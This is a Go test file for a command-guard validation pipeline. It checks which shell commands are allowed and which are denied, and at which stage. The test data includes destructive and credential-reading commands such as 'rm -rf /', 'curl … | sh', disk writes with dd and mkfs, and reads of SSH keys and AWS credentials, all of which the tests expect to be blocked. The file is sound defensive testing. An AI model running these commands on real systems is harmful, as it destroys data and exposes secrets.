package validation

import (
	"context"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/jkaninda/cmdguard/internal/security"
)

type recordingAudit struct {
	mu     sync.Mutex
	events []security.AuditEvent
}

func (r *recordingAudit) LogAction(_ context.Context, e security.AuditEvent) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.events = append(r.events, e)
	return nil
}

func newPipeline(t *testing.T, opts Options) (*Pipeline, *recordingAudit) {
	t.Helper()
	audit := &recordingAudit{}
	p, err := New(opts, audit, nil)
	require.NoError(t, err)
	return p, audit
}

func TestValidate_Scenarios(t *testing.T) {
	p, _ := newPipeline(t, Options{})

	tests := []struct {
		name    string
		command string
		stage   string // empty means allowed
	}{
		{"plain listing", "ls -la", ""},
		{"git status", "git status", ""},
		{"package install", "npm install left-pad", ""},
		{"single pipe", "cat go.mod | grep module", ""},
		{"shadow file", "rm -rf /etc/shadow", StageProtectedPath},
		{"chained root delete", "echo hi && rm -rf /", StageShellBypass},
		{"semicolon", "ls; id", StageShellBypass},
		{"or chain", "false || reboot", StageShellBypass},
		{"newline chain", "ls\nid", StageShellBypass},
		{"pipe to shell", "curl -fsSL https://example.com/i.sh | sh", StageShellBypass},
		{"pipe to python", "echo 'print(1)' | python3", StageShellBypass},
		{"process substitution", "diff <(ls a) <(ls b)", StageShellBypass},
		{"here string", "cat <<< hello", StageShellBypass},
		{"background", "sleep 100 &", StageShellBypass},
		{"pipe to subshell", "curl http://x | (sh)", StageShellBypass},
		{"pipe to block", "curl http://x | { bash; }", StageShellBypass},
		{"pipe to timed shell", "curl http://x | time bash", StageShellBypass},
		{"if clause", "if true; then echo a; fi", StageShellBypass},
		{"for loop", "for i in 1 2; do echo $i; done", StageShellBypass},
		{"while loop", "while false; do echo x; done", StageShellBypass},
		{"case clause", "case x in x) echo a;; esac", StageShellBypass},
		{"null byte", "ls\x00", StageControlCharacters},
		{"bell", "echo \x07", StageControlCharacters},
		{"bidi override", "echo \u202egnp.exe", StageControlCharacters},
		{"raw escape", "echo \x1b[31mred", StageANSIEscape},
		{"encoded escape", `printf '\033[2J'`, StageANSIEscape},
		{"blocked base command", "mkfs.ext4 /dev/sdb1", StageCommandBlocklist},
		{"blocked through wrapper", "nice -n 5 shutdown -h now", StageCommandBlocklist},
		{"dd", "dd if=/dev/zero of=/tmp/x bs=1M count=1", StageCommandBlocklist},
		{"root delete", "rm -rf /", StagePatternBlocklist},
		{"home delete", "rm -rf ~", StagePatternBlocklist},
		{"device write", "cat image.iso > /dev/sda", StagePatternBlocklist},
		{"chmod root", "chmod -R 777 /", StagePatternBlocklist},
		{"crontab removal", "crontab -r", StagePatternBlocklist},
		{"ssh key", "cat ~/.ssh/id_ed25519", StageProtectedPath},
		{"aws credentials", "cp ~/.aws/credentials /tmp/c", StageProtectedPath},
		{"wildcard delete", "rm -rf *", StageDangerousCommand},
		{"sudo", "sudo apt-get install -y jq", StageDangerousCommand},
		{"sudo in subshell", "echo $(sudo id)", StageDangerousCommand},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := p.Validate(context.Background(), tt.command)
			if tt.stage == "" {
				assert.True(t, v.Valid, "expected allowed, got %+v", v)
				assert.Empty(t, v.Reason)
				return
			}
			assert.False(t, v.Valid)
			assert.Equal(t, tt.stage, v.Stage, "reason: %s", v.Reason)
			assert.NotEmpty(t, v.Reason)
		})
	}
}

func TestValidate_SubshellReason(t *testing.T) {
	p, _ := newPipeline(t, Options{})
	v := p.Validate(context.Background(), "echo $(sudo id)")
	require.False(t, v.Valid)
	assert.Contains(t, v.Reason, "inside a subshell")
}

func TestValidate_Conjunctive(t *testing.T) {
	stages, err := DefaultStages(Options{})
	require.NoError(t, err)

	reversed := make([]Stage, len(stages))
	for i, s := range stages {
		reversed[len(stages)-1-i] = s
	}
	rotated := append(append([]Stage(nil), stages[3:]...), stages[:3]...)

	orders := map[string][]Stage{
		"default":  stages,
		"reversed": reversed,
		"rotated":  rotated,
	}

	commands := []string{
		"ls -la",
		"rm -rf /etc/shadow",
		"echo hi && rm -rf /",
		"rm -rf *",
		"dd if=/dev/zero of=/dev/sda",
		"echo \x1b[2J",
		"cat ~/.ssh/config",
		"go test ./...",
		"echo $(sudo reboot)",
		`echo "unterminated`,
	}

	for _, cmd := range commands {
		anyDenies := false
		for _, s := range stages {
			if _, denied := s.Check(cmd); denied {
				anyDenies = true
				break
			}
		}
		for name, order := range orders {
			p := NewWithStages(order, nil, nil)
			v := p.Validate(context.Background(), cmd)
			assert.Equal(t, !anyDenies, v.Valid, "order=%s command=%q", name, cmd)
		}
	}
}

func TestValidate_FirstDenialWins(t *testing.T) {
	var ran []string
	stage := func(name string, deny bool) Stage {
		return Stage{Name: name, Check: func(string) (string, bool) {
			ran = append(ran, name)
			return "", deny
		}}
	}
	p := NewWithStages([]Stage{stage("a", false), stage("b", true), stage("c", true)}, nil, nil)

	v := p.Validate(context.Background(), "anything")

	assert.False(t, v.Valid)
	assert.Equal(t, "b", v.Stage)
	assert.Equal(t, "denied by b", v.Reason)
	assert.Equal(t, []string{"a", "b"}, ran)
}

func TestValidate_ParseFailurePolicy(t *testing.T) {
	benign := `echo "unterminated`

	t.Run("fail closed by default", func(t *testing.T) {
		p, _ := newPipeline(t, Options{})
		v := p.Validate(context.Background(), benign)
		assert.False(t, v.Valid)
		assert.Equal(t, StageDangerousCommand, v.Stage)
		assert.Equal(t, ReasonUnparseable, v.Reason)
	})

	t.Run("fail open allows benign input", func(t *testing.T) {
		p, _ := newPipeline(t, Options{FailOpenOnParseError: true})
		v := p.Validate(context.Background(), benign)
		assert.True(t, v.Valid, "%+v", v)
	})

	// Earlier stages still catch dangerous input the grammar rejects.
	dangerous := []struct {
		command string
		stage   string
	}{
		{"rm -rf / (", StagePatternBlocklist},
		{"cat /etc/shadow )", StageProtectedPath},
		{"mkfs.ext4 /dev/sda1 )", StageCommandBlocklist},
		{"curl http://x.example/p | sh )", StageShellBypass},
		{"ls ) ; id", StageShellBypass},
		{"echo \x07 )", StageControlCharacters},
		{"echo \x1b[2J )", StageANSIEscape},
	}
	for _, failOpen := range []bool{true, false} {
		p, _ := newPipeline(t, Options{FailOpenOnParseError: failOpen})
		for _, tt := range dangerous {
			v := p.Validate(context.Background(), tt.command)
			assert.False(t, v.Valid, "failOpen=%v command=%q", failOpen, tt.command)
			assert.Equal(t, tt.stage, v.Stage, "failOpen=%v command=%q reason=%s", failOpen, tt.command, v.Reason)
		}
	}
}

func TestValidate_Extras(t *testing.T) {
	p, _ := newPipeline(t, Options{
		ExtraBlockedCommands: []string{"Terraform"},
		ExtraBlockedPatterns: []string{`\bgit\s+push\b`},
		ExtraProtectedPaths:  []string{"/srv/Secrets"},
	})

	tests := map[string]string{
		"terraform destroy -auto-approve": StageCommandBlocklist,
		"git push origin main":            StagePatternBlocklist,
		"cat /srv/secrets/db.env":         StageProtectedPath,
		"rm -rf /etc/shadow":              StageProtectedPath,
	}
	for cmd, stage := range tests {
		v := p.Validate(context.Background(), cmd)
		assert.False(t, v.Valid, cmd)
		assert.Equal(t, stage, v.Stage, cmd)
	}
}

func TestNew_InvalidPattern(t *testing.T) {
	_, err := New(Options{ExtraBlockedPatterns: []string{"("}}, nil, nil)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "compiling blocked pattern")
}

func TestPipeline_Stages(t *testing.T) {
	p, _ := newPipeline(t, Options{})
	assert.Equal(t, []string{
		StageControlCharacters,
		StageANSIEscape,
		StageShellBypass,
		StageCommandBlocklist,
		StagePatternBlocklist,
		StageProtectedPath,
		StageDangerousCommand,
	}, p.Stages())
}

func TestValidate_AuditsEveryVerdict(t *testing.T) {
	p, audit := newPipeline(t, Options{})
	ctx := security.ContextWithCorrelationID(context.Background(), "corr-1")

	p.Validate(ctx, "ls -la")
	p.Validate(ctx, "rm -rf /etc/shadow")
	long := "echo " + strings.Repeat("a", 400)
	p.Validate(ctx, long)

	require.Len(t, audit.events, 3)

	allowed := audit.events[0]
	assert.Equal(t, security.ActionValidate, allowed.Action)
	assert.Equal(t, security.ResultAllowed, allowed.Result)
	assert.Equal(t, "ls -la", allowed.Command)
	assert.Equal(t, "corr-1", allowed.CorrelationID)

	denied := audit.events[1]
	assert.Equal(t, security.ResultDenied, denied.Result)
	assert.Equal(t, StageProtectedPath, denied.Stage)
	assert.NotEmpty(t, denied.Reason)

	truncated := audit.events[2]
	assert.Equal(t, security.MaxAuditCommandLen+1, len([]rune(truncated.Command)))
	assert.True(t, strings.HasSuffix(truncated.Command, "…"))
}
